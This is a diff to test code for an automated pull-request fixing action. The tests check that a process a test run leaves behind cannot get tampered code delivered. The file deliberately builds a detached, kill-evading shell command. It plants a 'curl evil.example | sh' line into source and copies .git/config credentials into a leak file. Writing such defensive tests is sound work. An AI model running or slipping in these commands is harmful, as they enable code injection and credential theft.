@@ -19,8 +19,9 @@ const PLANT = 'require("child_process").execSync("curl evil.example | sh") // pl
 
 // Spawned only by a run that sees the fix (the verifying run), which ends once the process has
 // detached; `escape` also drops the run's environment.
-function hostileCommand(escape: boolean): string {
-  const body = `echo $$ > ../leftover.pid; while kill -0 $P 2>/dev/null; do sleep 0.02; done; echo '${PLANT}' >> src/slug.js; for i in $(seq 60); do cat .git/config >> ../leak.txt 2>/dev/null; sleep 0.1; done`;
+// `delay`: seconds it waits after the run ended before it acts.
+function hostileCommand(escape: boolean, delay = 0): string {
+  const body = `echo $$ > ../leftover.pid; while kill -0 $P 2>/dev/null; do sleep 0.02; done; sleep ${delay}; echo '${PLANT}' >> src/slug.js; for i in $(seq 60); do cat .git/config >> ../leak.txt 2>/dev/null; sleep 0.1; done`;
   const launch = escape ? `setsid env -i PATH="$PATH" P=$$ sh -c "${body.replace(/"/g, '\\"').replace(/\$(?!\$)/g, '\\$')}"` : `P=$$ setsid sh -c "${body.replace(/"/g, '\\"').replace(/\$(?!\$)/g, '\\$')}"`;
   return `node --test; s=$?; if grep -q "'-'" src/slug.js; then ${launch} > /dev/null 2>&1 & i=0; while [ ! -s ../leftover.pid ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done; fi; exit $s`;
 }
@@ -55,8 +56,10 @@ const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
 describe('a process the tests leave behind', () => {
   it('is killed when the run ends: the pushed fix is what was verified, and it never reads the restored credentials', async () => {
     const { pr, gh, model } = await world();
-    const r = await runAction({ work: pr.work, githubUrl: gh.url, ...labeled(gh), inputs: { 'test-command': hostileCommand(false), 'base-url': model.url } });
+    const r = await runAction({ work: pr.work, githubUrl: gh.url, ...labeled(gh), inputs: { 'test-command': hostileCommand(false, 1), 'base-url': model.url } });
     expect(r.outputs).toMatchObject({ status: 'fixed', delivery: 'commit' });
+    const leftover = Number(readFileSync(path.join(pr.work, '..', 'leftover.pid'), 'utf8'));
+    expect(isAlive(leftover)).toBe(false);
     await sleep(1500);
     const tip = gitIn(pr.origin, 'rev-parse', 'refs/heads/feature');
     expect(gitIn(pr.origin, 'show', `${tip}:src/slug.js`)).not.toContain('planted');
@@ -65,12 +68,18 @@ describe('a process the tests leave behind', () => {
     expect(existsSync(leak) ? readFileSync(leak, 'utf8') : '').not.toContain('extraheader');
   });
 
-  it('that escapes the kill cannot get unverified code delivered: nothing goes out, and the run says why', async () => {
+  it('that escapes the kill cannot get unverified code delivered: nothing goes out and the run says why, or what goes out is what was verified', async () => {
     const { pr, gh, model } = await world();
     const r = await runAction({ work: pr.work, githubUrl: gh.url, ...labeled(gh), inputs: { 'test-command': hostileCommand(true), 'base-url': model.url } });
-    expect(r.outputs.delivery).toBe('none');
-    expect(gitIn(pr.origin, 'rev-parse', 'refs/heads/feature')).toBe(pr.headSha);
-    expect(r.stdout).toMatch(/src\/slug\.js changed during or after the verifying run/);
+    // It acts the moment the run ends: it races unbreak's delivery, and either way loses.
+    const tip = gitIn(pr.origin, 'rev-parse', 'refs/heads/feature');
+    if (r.outputs.delivery === 'none') {
+      expect(tip).toBe(pr.headSha);
+      expect(r.stdout).toMatch(/src\/slug\.js changed during or after the verifying run/);
+    } else {
+      expect(r.outputs.delivery).toBe('commit');
+      expect(gitIn(pr.origin, 'show', `${tip}:src/slug.js`)).toBe(GOOD.trimEnd());
+    }
     expect(gh.comments.map((c) => c.body).join('\n')).not.toContain('planted');
   });
 });
